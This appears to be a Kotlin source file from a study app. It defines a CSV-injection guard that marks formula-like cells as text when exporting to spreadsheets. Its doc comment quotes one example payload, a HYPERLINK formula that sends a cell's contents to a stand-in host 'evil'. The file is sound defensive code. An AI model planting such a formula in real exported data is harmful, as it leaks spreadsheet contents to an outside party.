package org.hapticon.study.export

/**
 * OWASP "CSV Injection": a spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell starting with `=`, `+`,
 * `-`, `@`, tab or carriage return as a formula, so text a participant or an imported protocol wrote (say
 * `=HYPERLINK("http://evil/?"&A1,"click")`) could leak the sheet or run commands when a researcher opens the file.
 * Such a cell is written with a leading single quote, which spreadsheets take as "this is text". Plain numbers
 * such as `-1` or `+2.5e3` are left alone: no spreadsheet evaluates them as a formula, and analyses read negative
 * values back. Used for every CSV meant for a spreadsheet: the app's shared export and the collector's
 * downloads; never for the stored values themselves.
 */
public object CsvInjection {
    private const val FORMULA_STARTS = "=+-@\t\r"
    private val PLAIN_NUMBER = Regex("[+-]?(?:[0-9]+(?:\\.[0-9]*)?|\\.[0-9]+)(?:[eE][+-]?[0-9]+)?")

    /** [value], or `'` + [value] when a spreadsheet could run it as a formula. */
    public fun neutralise(value: String): String =
        if (value.isNotEmpty() && value[0] in FORMULA_STARTS && !PLAIN_NUMBER.matches(value)) "'$value" else value
}
